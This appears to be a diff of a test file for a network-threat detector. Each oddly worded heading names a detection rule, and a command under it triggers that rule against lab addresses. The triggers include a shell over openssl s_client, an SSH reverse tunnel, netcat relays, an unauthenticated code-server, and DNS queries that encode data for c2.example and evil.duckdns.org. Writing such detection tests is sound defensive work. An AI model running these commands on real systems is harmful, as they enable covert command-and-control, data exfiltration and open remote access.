@@ -23,9 +23,9 @@ for n in $(seq 1 8); do /tmp/agent tcp4 203.0.113.9 443; sleep 2.5; done
 for n in $(seq 1 8); do curl -s http://203.0.113.9/; sleep 2.5; done
 ## Connections at regular times
 #also Code without a file connects to an address without a name
-#also Code without a file connects to the internet
 for n in $(seq 1 10); do python3 -c 'import socket; socket.socket().connect_ex(("203.0.113.9", 443))'; sleep 2.3; done
 ## Place to drop data asked for
+#also Code without a file asks for a name of the internet
 #also Service for messages or texts used by code without a file
 timeout 1 python3 -c 'import socket
 q = bytes.fromhex("000101000001000000000000") + b"\x08transfer\x02sh\0\0\1\0\1"
@@ -47,9 +47,11 @@ tmate -F
 #setup stubs /usr/bin/tmate
 server 'tmate -F'
 ## Names that don't exist asked again and again
+#also Code without a file asks for a name of the internet
 #setup refuse_names
 ask_names 45
 ## Name of a service for changing addresses asked for
+#also Code without a file asks for a name of the internet
 python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes.fromhex("000101000001000000000000") + b"\x04evil\x07duckdns\x03org\0\0\1\0\1", ("10.9.8.1", 53))'
 ## Packet socket of a stranger
 #also Executable run from a scratch folder
@@ -60,13 +62,14 @@ cp /opt/lab/sockets /tmp/x; /tmp/x socket 17 3 768
 #also Shell started by a network server
 server 'openssl s_client -quiet -connect 203.0.113.9:443'
 ## Machine opened by an SSH client that trusts any server
+#also Login that checks nobody's identity
 #also Port made reachable from outside by SSH
 ssh -o BatchMode=yes -o UserKnownHostsFile=/dev/null -N -R 2222:localhost:22 10.9.8.7
 ## Link to another network made by hand
 ip link add vx0 type vxlan id 42 remote 203.0.113.9 dstport 4789 dev lo
 ## Network tools joined to a relay
 #also Network tool listens for a caller
-sh -c 'busybox nc -l -p 8446 < /dev/null & busybox nc -w 1 10.9.8.20 8000; kill $!'
+sh -c 'busybox nc -l -p 8446 < /dev/null & sleep 0.3; busybox nc -w 1 10.9.8.20 8000; kill $!'
 ## Proxy of sockets started by hand
 #setup stubs /usr/lib/systemd/systemd-socket-proxyd
 /usr/lib/systemd/systemd-socket-proxyd 10.9.8.7:80
@@ -81,19 +84,38 @@ timeout 1 busybox tftp -g -r a -l /tmp/a 203.0.113.9
 ## Mail sent by a network tool
 busybox nc -w 1 203.0.113.9 25
 ## Names without a meaning asked again and again
+#also Code without a file asks for a name of the internet
 python3 -c 'import socket
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 for c in b"bcdfghjklmnp": s.sendto(bytes.fromhex("000101000001000000000000") + b"\x08q%cxzkwvt\x03com\0\0\1\0\1" % c, ("10.9.8.1", 53))'
 ## Encoded words put into DNS names
+#also Code without a file asks for a name of the internet
 python3 -c 'import socket
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 for n in range(6): s.sendto(bytes.fromhex("000101000001000000000000") + b"\x28%040x\x02c2\x07example\0\0\1\0\1" % (n + (7 << 150)), ("10.9.8.1", 53))'
 ## Address asked of a public block chain
+#also Code without a file asks for a name of the internet
 python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes.fromhex("000101000001000000000000") + b"\x07mainnet\x06infura\x02io\0\0\1\0\1", ("10.9.8.1", 53))'
 ## Tool for access from afar open to anybody
 #also Tool for access from afar started
 #setup stubs /usr/bin/code-server
 code-server --bind-addr 0.0.0.0:8090 --auth none
 ## Service for messages or texts used by code without a file
+#also Code without a file asks for a name of the internet
 #also Place to drop data asked for
 python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes.fromhex("000101000001000000000000") + b"\x07discord\x03com\0\0\1\0\1", ("10.9.8.1", 53))'
+## Connections of others led on by a stranger
+#also Code without a file waits for callers
+#setup listener 80
+python3 -c '
+import socket
+s = socket.create_server(("", 1080)); c = socket.create_connection(("10.9.8.7", 1080)); s.accept(); socket.create_connection(("10.9.8.7", 80))'
+## Program in a scratch folder reaches its controller under several addresses
+#also Code without a file connects to an address without a name
+#setup ip route replace local 0.0.0.0/0 dev lo
+python3 -c '
+import socket
+for n in range(1, 6): socket.socket().connect_ex(("203.0.113.%d" % n, 443))'
+## Connection of a stranger to an unusual port
+#also Code without a file connects to an address without a name
+python3 -c 'import socket; socket.socket().connect_ex(("203.0.113.9", 8531))'
